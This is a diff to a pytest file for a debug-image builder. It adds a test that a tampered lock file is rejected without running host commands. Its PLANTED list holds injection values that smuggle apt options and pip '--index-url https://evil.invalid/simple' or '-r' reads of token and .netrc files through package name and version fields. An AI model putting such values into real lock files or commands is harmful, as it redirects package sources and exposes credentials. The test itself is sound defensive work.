@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import copy
 import hashlib
 import io
 import json
@@ -57,7 +58,7 @@ class HostTools(FakePip):
             return ProcResult(tuple(args), 0, "", "")
         if args[0] == "apt-cache":
             self.calls.append(args)
-            pins = args[args.index("show") + 1 :]
+            pins = args[args.index("--") + 1 :]  # every pin after `--`: never an option
             text = "\n".join(
                 f"Package: {p.split('=')[0]}\nVersion: {p.split('=')[1]}\nArchitecture: amd64\n"
                 f"Size: {len(p.encode())}\nSHA256: {hashlib.sha256(p.encode()).hexdigest()}\n"
@@ -67,7 +68,7 @@ class HostTools(FakePip):
             return ProcResult(tuple(args), 0, text, "")
         if args[0] == "apt-get" and "download" in args:
             self.calls.append(args)
-            for pin in args[args.index("download") + 1 :]:
+            for pin in args[args.index("--") + 1 :]:
                 Path(str(kw["cwd"]), pin.replace(":", "%3a").replace("=", "_") + ".deb").write_bytes(
                     pin.encode()
                 )
@@ -227,3 +228,59 @@ def test_a_damaged_debug_lock_is_an_error_naming_the_file(tmp_path: Path, text: 
     with pytest.raises(LockError, match=r"debug\.lock\.json is not a readable debug lock") as e:
         read_debug_lock(path)
     assert "resolves it again" in (e.value.hint or "")
+
+
+class Recorder:
+    """Every host command the debug build runs, with the text of any requirements file it reads."""
+
+    def __init__(self, inner: HostTools) -> None:
+        self.inner = inner
+        self.words: list[str] = []
+
+    def __call__(self, argv: Sequence[str], **kw: object) -> ProcResult:
+        self.words += list(argv)
+        if "-r" in argv:
+            self.words += Path(argv[list(argv).index("-r") + 1]).read_text().splitlines()
+        return self.inner(argv, **kw)  # type: ignore[arg-type]
+
+
+PLANTED = [
+    ("debian", "name", "-oDir::Bin::Methods=/repo/.git/hooks"),
+    ("debian", "name", "-c/repo/apt.conf"),
+    ("debian", "version", "-oAPT::Get::AllowUnauthenticated=1"),
+    ("debian", "version", "1.0\n-c/repo/apt.conf"),
+    ("pip", "name", "jupyterlab==4.4.0\n--index-url https://evil.invalid/simple\n-r /home/u/.token\nx"),
+    ("pip", "name", "x\n--extra-index-url=https://evil.invalid/simple"),
+    ("pip", "version", "4.4.0\n-r /home/u/.netrc"),
+    ("pip", "version", "4.4.0 --index-url https://evil.invalid/simple"),
+]
+
+
+@pytest.mark.parametrize(("part", "key", "value"), PLANTED)
+def test_a_planted_committed_lock_runs_no_host_command(
+    engine: FakeEngine,
+    debug_builder: DebugBuilder,
+    loaded: LoadedSpec,
+    root: Path,
+    part: str,
+    key: str,
+    value: str,
+) -> None:
+    """The lock is reused because its request key is this runtime image's: its pins are read first."""
+    _build(engine, debug_builder, loaded)
+    path = root / "images" / "tiny" / DEBUG_LOCK
+    data = json.loads(path.read_text())
+    planted = copy.deepcopy(data[part]["packages"][0])
+    planted[key] = value
+    planted["sha256" if part == "debian" else "hashes"] = (
+        "b" * 64 if part == "debian" else ["b" * 64]
+    )  # a new file: not in any cache, so it would be fetched
+    data[part]["packages"].append(planted)
+    path.write_text(json.dumps(data))
+    recorder = Recorder(debug_builder.run)  # type: ignore[arg-type]
+    debug_builder.run = recorder
+    with pytest.raises(LockError, match=rf"debug\.lock\.json is not a readable debug lock: {part}\.packages"):
+        _build(engine, debug_builder, loaded)
+    hostile = [line for line in value.splitlines() if line.startswith("-") or " -" in line]
+    assert hostile
+    assert not [w for w in recorder.words for h in hostile if h.split()[-1] in w]
